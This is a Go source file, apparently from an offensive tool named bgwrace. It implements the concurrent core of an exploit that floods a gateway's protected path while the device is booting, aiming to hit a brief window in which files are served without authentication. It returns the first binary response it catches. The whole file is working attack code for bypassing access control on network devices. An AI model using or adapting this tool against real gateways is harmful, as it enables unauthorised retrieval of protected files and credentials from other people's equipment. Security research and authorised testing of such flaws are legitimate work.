// Package race implements the concurrent core of the tool: a fixed pool
// of workers hammering the target path so that at least one request
// lands inside the brief post-boot window where the gateway serves
// protected files unauthenticated.
package race

import (
	"context"
	"errors"
	"sync"
	"sync/atomic"

	log "github.com/sirupsen/logrus"
	"golang.org/x/time/rate"

	"github.com/thezakman/bgwrace/pkg/rawhttp"
)

// Fetcher is the per-attempt transport; *rawhttp.Client satisfies it.
type Fetcher interface {
	Fetch(host string, port int, path string) ([]byte, error)
}

// ErrNoWinner means the pool was cancelled before any worker caught the
// window. The race itself never gives up; only the caller's context ends it.
var ErrNoWinner = errors.New("race: no worker caught the window")

// Downloader races Workers concurrent request loops against one path.
type Downloader struct {
	Fetcher Fetcher
	Workers int

	// Limiter, when set, caps the pool-wide request frequency. Useful on
	// flaky switches where full-speed reconnects trip port protection.
	Limiter *rate.Limiter
}

// Run blocks until a worker wins or ctx is cancelled, and returns the
// winning payload. The pool shares exactly two things: a stop flag and a
// single-assignment result slot. The flag transition is one-way; the
// slot takes the first successful compare-and-swap and ignores every
// later winner, so concurrent wins collapse to one deterministic result.
func (d *Downloader) Run(ctx context.Context, host string, port int, path string) ([]byte, error) {
	var (
		stop   atomic.Bool
		result atomic.Pointer[[]byte]
		wg     sync.WaitGroup
	)

	// Wakes workers parked on the limiter once someone wins or the
	// caller gives up.
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	stopWatch := context.AfterFunc(ctx, func() { stop.Store(true) })
	defer stopWatch()

	for i := 0; i < d.Workers; i++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			log.WithFields(log.Fields{"worker": id}).Debug("worker starting")
			defer log.WithFields(log.Fields{"worker": id}).Debug("worker exiting")

			for !stop.Load() {
				if d.Limiter != nil {
					if err := d.Limiter.Wait(ctx); err != nil {
						continue
					}
				}

				body, err := d.Fetcher.Fetch(host, port, path)
				if err != nil {
					// Transient fault; the device is mid-boot and drops
					// connections constantly. Keep looping.
					continue
				}
				if len(body) == 0 || rawhttp.IsHTML(body) {
					// The login page: window closed for this request.
					continue
				}

				// Binary payload: this worker won. Record first, then
				// stop the pool. A concurrent winner that loses the
				// swap is simply discarded.
				if result.CompareAndSwap(nil, &body) {
					log.WithFields(log.Fields{"worker": id, "bytes": len(body)}).Debug("worker won the race")
				}
				stop.Store(true)
				cancel()
				return
			}
		}(i)
	}

	wg.Wait()

	if p := result.Load(); p != nil {
		return *p, nil
	}
	return nil, ErrNoWinner
}
